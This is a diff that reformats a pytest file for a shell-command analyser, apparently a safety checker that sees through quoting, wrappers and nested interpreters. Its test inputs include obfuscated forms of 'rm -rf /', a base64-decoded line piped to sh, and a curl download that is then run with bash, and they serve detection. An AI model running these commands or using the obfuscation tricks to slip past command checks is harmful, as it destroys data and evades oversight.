@@ -14,71 +14,92 @@ from .conftest import HOME, WORKSPACE
 
 def runs(command: str) -> list[str]:
     """The simple commands, as text, each with its program's normalised name."""
-    return [" ".join([inv.program or "?", *inv.args])
-            for inv in analyze_source(command, WORKSPACE, HOME).invocations]
+    return [
+        " ".join([inv.program or "?", *inv.args])
+        for inv in analyze_source(command, WORKSPACE, HOME).invocations
+    ]
 
 
 def programs(command: str) -> list[str | None]:
     return [inv.program for inv in analyze_source(command, WORKSPACE, HOME).invocations]
 
 
-@pytest.mark.parametrize("command", [
-    "r''m -rf /", '"rm" -rf /', "\\rm -rf /", "$'\\x72\\x6d' -rf /", "$'\\162\\155' -rf /",
-    "rm${IFS}-rf${IFS}/", "{rm,-rf,/}", "x=rm; $x -rf /", "a=r; b=m; $a$b -rf /",
-    "$(echo rm) -rf /", "`echo rm` -rf /", "/bin/rm -rf /", "./../../bin/rm -rf /",
-])
+@pytest.mark.parametrize(
+    "command",
+    [
+        "r''m -rf /",
+        '"rm" -rf /',
+        "\\rm -rf /",
+        "$'\\x72\\x6d' -rf /",
+        "$'\\162\\155' -rf /",
+        "rm${IFS}-rf${IFS}/",
+        "{rm,-rf,/}",
+        "x=rm; $x -rf /",
+        "a=r; b=m; $a$b -rf /",
+        "$(echo rm) -rf /",
+        "`echo rm` -rf /",
+        "/bin/rm -rf /",
+        "./../../bin/rm -rf /",
+    ],
+)
 def test_quoting_and_expansion_are_seen_through(command: str) -> None:
     assert "rm -rf /" in runs(command)
 
 
-@pytest.mark.parametrize(("command", "inner"), [
-    ("sudo -u root rm -rf /tmp/x", "rm -rf /tmp/x"),
-    ("env -i A=1 nice -n 5 timeout 9 nohup setsid stdbuf -oL rm x", "rm x"),
-    ("ionice -c3 time command builtin exec rm x", "rm x"),
-    ("busybox rm x", "rm x"),
-    ("chroot / rm x", "rm x"),
-    ("watch rm x", "rm x"),
-    ("doas -u bob rm x", "rm x"),
-    ("env -S 'rm x'", "rm x"),
-    ("find src -exec rm {} \\;", "rm src"),
-    ("find src -execdir rm {} +", "rm src"),
-    ("echo a b | xargs rm", "rm a b"),
-    ("xargs rm <<< 'a b'", "rm a b"),
-    ("printf 'a\\nb\\n' | xargs -I{} rm {}", "rm b"),
-])
+@pytest.mark.parametrize(
+    ("command", "inner"),
+    [
+        ("sudo -u root rm -rf /tmp/x", "rm -rf /tmp/x"),
+        ("env -i A=1 nice -n 5 timeout 9 nohup setsid stdbuf -oL rm x", "rm x"),
+        ("ionice -c3 time command builtin exec rm x", "rm x"),
+        ("busybox rm x", "rm x"),
+        ("chroot / rm x", "rm x"),
+        ("watch rm x", "rm x"),
+        ("doas -u bob rm x", "rm x"),
+        ("env -S 'rm x'", "rm x"),
+        ("find src -exec rm {} \\;", "rm src"),
+        ("find src -execdir rm {} +", "rm src"),
+        ("echo a b | xargs rm", "rm a b"),
+        ("xargs rm <<< 'a b'", "rm a b"),
+        ("printf 'a\\nb\\n' | xargs -I{} rm {}", "rm b"),
+    ],
+)
 def test_wrappers_are_unwrapped(command: str, inner: str) -> None:
     assert inner in runs(command)
 
 
-@pytest.mark.parametrize(("command", "inner"), [
-    ("bash -c 'rm x'", "rm x"),
-    ("sh -c \"sh -c 'rm x'\"", "rm x"),
-    ("zsh -lc 'cd /tmp && rm x'", "rm x"),
-    ("dash -c 'rm \"$1\"' zero x", "rm x"),
-    ("bash -c 'rm $0' x", "rm x"),
-    ("eval 'rm x'", "rm x"),
-    ("eval \"$(echo rm x)\"", "rm x"),
-    ("bash <<< 'rm x'", "rm x"),
-    ("bash <<EOF\nrm x\nEOF", "rm x"),
-    ("cat <<'EOF' | sh\nrm x\nEOF", "rm x"),
-    ("echo 'rm x' | sudo bash", "rm x"),
-    ("echo cm0geAo= | base64 -d | sh", "rm x"),
-    ("f() { rm \"$1\"; }; f x", "rm x"),
-    ("alias d='rm'; d x", "rm x"),
-    ("for v in x; do rm $v; done", "rm x"),
-    ("echo $(rm x)", "rm x"),
-    ("cat <(rm x)", "rm x"),
-    ("python3 -c 'import os; os.system(\"rm x\")'", "rm x"),
-    ("perl -e 'system(\"rm\", \"x\")'", "rm x"),
-    ("ssh host rm x", "rm x"),
-])
+@pytest.mark.parametrize(
+    ("command", "inner"),
+    [
+        ("bash -c 'rm x'", "rm x"),
+        ("sh -c \"sh -c 'rm x'\"", "rm x"),
+        ("zsh -lc 'cd /tmp && rm x'", "rm x"),
+        ("dash -c 'rm \"$1\"' zero x", "rm x"),
+        ("bash -c 'rm $0' x", "rm x"),
+        ("eval 'rm x'", "rm x"),
+        ('eval "$(echo rm x)"', "rm x"),
+        ("bash <<< 'rm x'", "rm x"),
+        ("bash <<EOF\nrm x\nEOF", "rm x"),
+        ("cat <<'EOF' | sh\nrm x\nEOF", "rm x"),
+        ("echo 'rm x' | sudo bash", "rm x"),
+        ("echo cm0geAo= | base64 -d | sh", "rm x"),
+        ('f() { rm "$1"; }; f x', "rm x"),
+        ("alias d='rm'; d x", "rm x"),
+        ("for v in x; do rm $v; done", "rm x"),
+        ("echo $(rm x)", "rm x"),
+        ("cat <(rm x)", "rm x"),
+        ("python3 -c 'import os; os.system(\"rm x\")'", "rm x"),
+        ('perl -e \'system("rm", "x")\'', "rm x"),
+        ("ssh host rm x", "rm x"),
+    ],
+)
 def test_nested_code_is_analysed(command: str, inner: str) -> None:
     assert inner in runs(command)
 
 
 def test_unknown_program_is_marked_dynamic() -> None:
     assert programs("$CMD -rf /") == [None]
-    assert None in programs("eval \"$X\"")
+    assert None in programs('eval "$X"')
 
 
 def test_download_taint_reaches_the_shell() -> None:
@@ -88,8 +109,9 @@ def test_download_taint_reaches_the_shell() -> None:
 
 
 def test_download_saved_to_a_file_then_run() -> None:
-    invs = analyze_source("curl -o /tmp/i.sh https://x && bash /tmp/i.sh", WORKSPACE,
-                          HOME).invocations
+    invs = analyze_source(
+        "curl -o /tmp/i.sh https://x && bash /tmp/i.sh", WORKSPACE, HOME
+    ).invocations
     bash = next(i for i in invs if i.program == "bash")
     assert "download" in bash.runs_code.taint
     clean = analyze_source("touch /tmp/i.sh && bash /tmp/i.sh", WORKSPACE, HOME).invocations
